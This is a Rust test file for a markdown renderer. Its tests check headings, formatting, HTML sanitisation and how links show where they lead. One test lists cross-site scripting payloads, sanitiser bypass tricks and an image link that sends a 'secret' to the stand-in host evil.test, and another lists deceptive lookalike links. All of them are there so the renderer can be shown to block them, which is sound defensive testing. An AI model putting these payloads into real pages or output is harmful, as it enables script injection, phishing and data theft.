//! What gets through and what does not.

use super::*;

fn html(text: &str) -> String {
    render(text).into_string()
}

#[test]
fn the_forms_of_an_answer_are_shown() {
    let shown = html(
        "# Plan\n\n1. **Pay** the _rent_\n2. `cargo test`\n\n> said ~~once~~\n\n```rust\nfn main() {}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
    );
    for part in [
        "<h2>Plan</h2>",
        "<strong>Pay</strong> the <em>rent</em>",
        "<code>cargo test</code>",
        "<blockquote>",
        "<del>once</del>",
        "<pre><code>fn main() {}",
        "<td>1</td>",
    ] {
        assert!(shown.contains(part), "no {part} in {shown}");
    }
}

#[test]
fn headings_go_down_step_by_step_below_the_pages_own() {
    let shown = html("### a\n\n###### b\n\n# c\n\n## d\n");
    for part in ["<h2>a</h2>", "<h3>b</h3>", "<h2>c</h2>", "<h3>d</h3>"] {
        assert!(shown.contains(part), "no {part} in {shown}");
    }
}

#[test]
fn nothing_is_fetched_or_run() {
    for text in [
        "![a](https://evil.test/?q=secret)",
        "![a][b]\n\n[b]: https://evil.test/x.png",
        "<img src=https://evil.test/x>",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<svg/onload=alert(1)>",
        "<iframe src=https://evil.test></iframe>",
        "<style>@import 'https://evil.test'</style>",
        "<link rel=stylesheet href=https://evil.test>",
        "<form action=https://evil.test><input></form>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x)",
        "<javascript:alert(1)>",
        "[x](//evil.test/y)",
        "[x](/logout)",
        "[x](\u{1}javascript:alert(1))",
        "<a href=\"https://evil.test\" onclick=alert(1)>x</a>",
        "<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
    ] {
        let shown = html(text);
        for mark in [
            "<img",
            "<script",
            "<svg",
            "<iframe",
            "<style",
            "<link",
            "<form",
            "<math",
            "<input",
            "href=\"java",
            "href=\"data",
            "href=\"vb",
            "href=\"/",
        ] {
            assert!(!shown.to_lowercase().contains(mark), "{mark} of {text} in {shown}");
        }
        // Text may say it; an attribute may not.
        assert!(
            !has_attribute(&shown, "on") && !has_attribute(&shown, "src") && !has_attribute(&shown, "style"),
            "{text}: {shown}"
        );
    }
}

/// Whether any tag has an attribute that begins so.
fn has_attribute(html: &str, name: &str) -> bool {
    html.split('<')
        .skip(1)
        .filter_map(|tag| tag.split('>').next())
        .any(|tag| tag.split_whitespace().skip(1).any(|attribute| attribute.to_lowercase().starts_with(name)))
}

#[test]
fn a_link_says_where_it_leads_whatever_its_words_say() {
    for (text, host) in [
        ("[your bank](https://evil.test/login)", "evil.test"),
        ("[https://bank.example](https://evil.test)", "evil.test"),
        ("<https://bank.example@evil.test/>", "evil.test"),
        ("[a](https://xn--bnk-0na.example/)", "xn--bnk-0na.example"),
        ("[a](https://bänk.example/)", "xn--bnk-qla.example"),
        ("[write](mailto:anna@evil.test)", "evil.test"),
    ] {
        let shown = html(text);
        assert!(shown.contains(&format!("</a> ({host})")), "{text}: {shown}");
        assert!(shown.contains("rel=\"noopener noreferrer nofollow\""), "{shown}");
    }
    assert_eq!(html("![chart](https://evil.test/x.png)"), "<p>[picture: chart] (evil.test)</p>\n");
}
